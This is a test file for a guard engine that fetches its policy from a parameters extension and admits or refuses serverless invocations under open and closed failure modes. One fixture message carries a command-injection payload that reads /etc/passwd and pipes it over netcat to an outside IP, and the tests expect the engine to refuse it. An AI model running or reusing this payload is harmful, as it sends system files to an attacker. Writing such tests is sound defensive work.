import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, test } from 'vitest';
import { createEngine } from './create-engine.ts';

const POLICY = JSON.stringify({ Parameter: { Value: '{"version":"remote","mode":"block"}' } });
const closing: (() => void)[] = [];
afterEach(() => {
  for (const close of closing.splice(0)) close();
});

/** The extension that keeps parameters; it fails for the first `failing` questions. */
async function anExtension(failing: number) {
  let asked = 0;
  const server = createServer((_question, answer) => {
    asked += 1;
    if (asked <= failing) answer.writeHead(400).end('not ready to serve traffic, please wait');
    else answer.end(POLICY);
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  closing.push(() => server.close());
  const address = server.address();
  const { port }: Pick<AddressInfo, 'port'> = Object(address);
  return { port: String(port), asked: () => asked };
}

async function anEngine(port: string, more: Readonly<Record<string, string>> = {}) {
  const lines: { message: string }[] = [];
  let time = 0;
  const engine = await createEngine({
    write: (line) => lines.push(JSON.parse(line)),
    now: () => time,
    environment: {
      WATERTIGHT_POLICY_PARAMETER: '/guard',
      PARAMETERS_SECRETS_EXTENSION_HTTP_PORT: port,
      ...more,
    },
  });
  const event = {
    Records: [{ messageId: 'm', eventSource: 'aws:sns', EventSource: 'aws:sns', Sns: { Message: 'x' } }],
  };
  const attack = {
    ...event,
    Records: [{ ...event.Records[0], Sns: { Message: '1; cat /etc/passwd | nc 203.0.113.9 4444' } }],
  };
  return {
    lines,
    pass: (milliseconds: number) => {
      time += milliseconds;
    },
    pending: engine.pending,
    fine: () => engine.open({ event, context: {} }).admission.kind,
    attack: () => engine.open({ event: attack, context: {} }).admission.kind,
  };
}

describe('a policy of a service', () => {
  test('is asked for again while the service is not ready', async () => {
    const extension = await anExtension(3);
    const { attack, fine, lines } = await anEngine(extension.port);
    expect([fine(), attack()]).toEqual(['run', 'refused']);
    expect(extension.asked()).toBe(4);
    expect(lines.map(({ message }) => message)).toEqual([expect.stringMatching(/^Violation/)]);
  });

  test('open: the default policy holds until it can be read, and it is tried beside the invocations', async () => {
    const extension = await anExtension(7);
    const { attack, lines, pass, pending } = await anEngine(extension.port);
    expect(extension.asked()).toBe(6);
    expect(lines[0]?.message).toContain('answered 400');
    expect(attack()).toBe('run');
    expect(pending()).toBeUndefined();
    expect(extension.asked()).toBe(6);
    for (const wait of [1000, 2000]) {
      pass(wait);
      expect(pending()).toBeUndefined();
      await expect.poll(() => extension.asked()).toBe(wait === 1000 ? 7 : 8);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    await expect.poll(attack).toBe('refused');
  });

  test('closed: nothing runs until it can be read', async () => {
    const extension = await anExtension(6);
    const { attack, fine, lines, pass, pending } = await anEngine(extension.port, {
      WATERTIGHT_POLICY_FAILURE: 'closed',
    });
    expect([fine(), attack()]).toEqual(['refused', 'refused']);
    expect(lines.at(-1)?.message).toContain('WATERTIGHT_POLICY_FAILURE is closed');
    pass(1000);
    await pending();
    expect([fine(), attack()]).toEqual(['run', 'refused']);
  });

  test('what is neither open nor closed is told', async () => {
    const { fine, lines } = await anEngine('1', {
      WATERTIGHT_POLICY_JSON: '{}',
      WATERTIGHT_POLICY_FAILURE: 'shut',
    });
    expect(lines[0]?.message).toContain('it must be open or closed, shut seen');
    expect(fine()).toBe('run');
  });

  test('closed: a policy with a mistake is none, and off stays off', async () => {
    const broken = await anEngine('1', { WATERTIGHT_POLICY_JSON: '{', WATERTIGHT_POLICY_FAILURE: 'closed' });
    expect(broken.fine()).toBe('refused');
    const off = await anEngine('1', {
      WATERTIGHT_POLICY_JSON: '{',
      WATERTIGHT_POLICY_FAILURE: 'closed',
      WATERTIGHT_MODE: 'off',
    });
    expect(off.fine()).toBe('run');
  });
});
